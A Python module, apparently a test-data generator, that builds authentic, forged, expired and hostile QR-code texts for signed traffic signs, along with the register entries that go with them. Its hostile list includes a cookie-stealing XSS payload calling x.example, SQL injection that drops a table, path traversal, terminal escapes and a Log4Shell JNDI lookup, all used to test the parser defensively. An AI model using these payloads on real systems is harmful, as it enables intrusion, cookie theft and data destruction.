"""The texts on the code panels: authentic, forged and hostile, and the register entries that belong to them."""

from __future__ import annotations

import random
from dataclasses import dataclass, replace

import base45
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from hardware.rig.scene import Scene
from hardware.rig.track import Track
from wire import signcode
from wire.register import RegisterEntry
from wire.signcode import SignClaims

_DAY = 86_400
_ELSEWHERE_M = 900.0  # distance behind the drive's start of the sign whose code is copied

_DEEP_CBOR = b"\x81" * 300 + b"\x00"
_HOSTILE = (
    '<script>fetch("//x.example/"+document.cookie)</script>',
    "<img src=x onerror=alert(1)>\"'><svg/onload=alert(2)>",
    "'); DROP TABLE verdicts; --",
    "1' OR '1'='1' UNION SELECT * FROM envelopes --",
    "\x1b]0;owned\x07\x1b[2J\x1b[31mSPEED LIMIT 120\x1b[0m",
    "../../../../etc/passwd\x00%n%n%s%s{{7*7}}${jndi:ldap://x.example/a}",
    "SR1:NOT:BASE45:AT:ALL:" + "%" * 40,
    "SR1:" + "BB8" * 66,
)


@dataclass(frozen=True)
class Coded:
    """The code of a scene: the QR text (None: no panel), the class that it claims if any, its correction level."""

    text: str | None
    class_id: int | None
    level: str = "M"


def _hostile(rng: random.Random) -> Coded:
    """A text that attacks the program that parses, stores or shows it."""
    choices = [Coded(text, None) for text in _HOSTILE]
    choices.append(Coded("SR1:" + base45.b45encode(_DEEP_CBOR).decode("ascii"), None, "L"))  # nested 300 deep
    choices.append(Coded("SR1:" + "A0" * 258, None, "L"))  # 520 bytes, over `signcode.MAX_TEXT_BYTES`
    return rng.choice(choices)


def claims_of(scene: Scene, track: Track, now_s: int, rng: random.Random) -> SignClaims:
    """What the authority says of the scene's sign: valid since three months ago, for three more years."""
    lat, lon = track.place(scene.z, scene.x)
    return SignClaims(
        sign_id=rng.randbytes(signcode.SIGN_ID_BYTES),
        class_id=scene.class_id,
        lat=lat,
        lon=lon,
        heading=track.heading,
        valid_from=now_s - 90 * _DAY,
        valid_until=now_s + 3 * 365 * _DAY,
    )


def code_of(
    scene: Scene, track: Track, now_s: int, authority: Ed25519PrivateKey, rng: random.Random
) -> tuple[Coded, list[RegisterEntry]]:
    """The code under the scene's sign, and what the register holds because of it."""
    kind = scene.recipe.code
    claims = claims_of(scene, track, now_s, rng)
    key = authority
    if kind == "expired":
        claims = replace(claims, valid_from=now_s - 400 * _DAY, valid_until=now_s - 30 * _DAY)
    elif kind == "of_another_sign":
        lat, lon = track.place(-_ELSEWHERE_M, scene.x)
        claims = replace(claims, lat=lat, lon=lon)
    elif kind == "foreign_key":
        key = Ed25519PrivateKey.from_private_bytes(rng.randbytes(32))
    entries = [_entry(claims)] if scene.recipe.registered or kind == "of_another_sign" else []
    if kind == "none":
        return Coded(None, None), entries
    if kind == "hostile":
        return _hostile(rng), entries
    return Coded(signcode.issue(claims, key), claims.class_id), entries


def _entry(claims: SignClaims) -> RegisterEntry:
    return RegisterEntry(
        claims.sign_id,
        claims.class_id,
        claims.lat,
        claims.lon,
        claims.heading,
        claims.valid_from,
        claims.valid_until,
    )
